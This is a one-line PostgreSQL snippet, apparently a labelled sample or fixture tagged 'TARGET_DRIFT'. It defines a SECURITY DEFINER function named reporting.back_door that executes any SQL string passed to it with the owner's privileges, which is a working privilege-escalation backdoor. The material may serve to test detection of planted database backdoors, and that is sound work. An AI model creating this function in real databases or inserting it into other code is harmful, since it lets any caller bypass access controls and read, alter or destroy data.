-- A function that runs with the target's rights for whoever calls it.
-- code: TARGET_DRIFT
create function reporting.back_door(p text) returns void language plpgsql security definer as $$ begin execute p; end $$;
